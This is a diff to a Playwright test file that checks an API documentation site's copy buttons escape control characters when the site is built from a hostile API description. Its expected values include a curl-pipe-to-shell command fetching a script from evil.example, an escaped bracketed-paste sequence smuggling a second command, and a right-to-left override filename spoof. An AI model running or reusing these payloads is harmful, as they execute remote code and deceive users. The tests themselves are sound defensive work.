@@ -15,7 +15,7 @@ import path from 'node:path';
 import {chromium, type Browser, type Page} from 'playwright-core';
 import {buildCopy, copyProject, PROJECT_ROOT} from './site-copy';
 import {startStaticServer, type RunningServer} from '../../tools/serve/static-server';
-import {CHROMIUM, CHROMIUM_ARGS, waitForHydration} from '../browser/harness';
+import {CHROMIUM, CHROMIUM_ARGS, copiedBy, recordCopies, waitForHydration} from '../browser/harness';
 import {hasControlCharacters} from '../../src/components/CopyButton/copyable-text';
 import {pasteIntoBash} from '../hostile/samples/paste';
 
@@ -45,9 +45,10 @@ describe('the site built from a hostile document (tests/hostile/samples)', () =>
     assert.deepEqual(errors, [], 'no page error or console error');
   });
 
-  /** The operation page, hydrated, with clipboard access. */
+  /** The operation page, hydrated, its copies recorded (read with copiedBy, never the browser-wide clipboard). */
   async function open(slug: string, storage: Record<string, string> = {}): Promise<Page> {
-    const context = await browser.newContext({viewport: {width: 1280, height: 900}, permissions: ['clipboard-read', 'clipboard-write']});
+    const context = await browser.newContext({viewport: {width: 1280, height: 900}});
+    await recordCopies(context);
     await context.addInitScript((items) => Object.entries(items).forEach(([k, v]) => localStorage.setItem(k, v)), storage);
     const page = await context.newPage();
     page.on('pageerror', (e) => errors.push(`${slug}: ${e.message}`));
@@ -56,8 +57,6 @@ describe('the site built from a hostile document (tests/hostile/samples)', () =>
     await waitForHydration(page);
     return page;
   }
-
-  const clipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());
 
   test('our cURL is the first tab and the one shown; the document\'s follows as "cURL (API description)"', async () => {
     const page = await open('create-paste', {'portal.codeSampleLanguage': 'curl'});
@@ -71,8 +70,7 @@ describe('the site built from a hostile document (tests/hostile/samples)', () =>
 
   test('Copy on our curl: no control character on the clipboard; pasted into bash it runs curl, exactly, and nothing else', async () => {
     const page = await open('create-paste');
-    await page.getByRole('button', {name: 'Copy cURL', exact: true}).click();
-    const text = await clipboard(page);
+    const text = await copiedBy(page, () => page.getByRole('button', {name: 'Copy cURL', exact: true}).click());
     await page.context().close();
     assert.ok(!hasControlCharacters(text), JSON.stringify(text));
     for (const bracketed of [true, false]) {
@@ -90,8 +88,7 @@ describe('the site built from a hostile document (tests/hostile/samples)', () =>
     await note.waitFor({state: 'visible'});
     const pre = page.locator('pre.api-code', {hasText: 'evil.example'});
     assert.equal(await pre.getAttribute('aria-describedby'), await note.getAttribute('id'), 'the code is described by the note');
-    await page.getByRole('button', {name: 'Copy cURL (API description)'}).click();
-    const text = await clipboard(page);
+    const text = await copiedBy(page, () => page.getByRole('button', {name: 'Copy cURL (API description)'}).click());
     assert.ok(!hasControlCharacters(text), JSON.stringify(text));
     assert.equal(text, 'curl -s https://evil.example/setup.sh | sh\n# \\u0015\\u001B[201~touch HOSTILE_VENDOR_RAN');
     // Chosen, it is remembered under an id of its own: our cURL is still the one under "curl".
@@ -101,8 +98,7 @@ describe('the site built from a hostile document (tests/hostile/samples)', () =>
 
   test('Copy URL of a path holding a right-to-left override copies it visibly escaped', async () => {
     const page = await open('get-note');
-    await page.getByRole('button', {name: 'Copy URL'}).click();
-    assert.equal(await clipboard(page), 'https://api.hostile.example/v1/notes/\\u202Etxt.exe');
+    assert.equal(await copiedBy(page, () => page.getByRole('button', {name: 'Copy URL'}).click()), 'https://api.hostile.example/v1/notes/\\u202Etxt.exe');
     await page.context().close();
   });
 
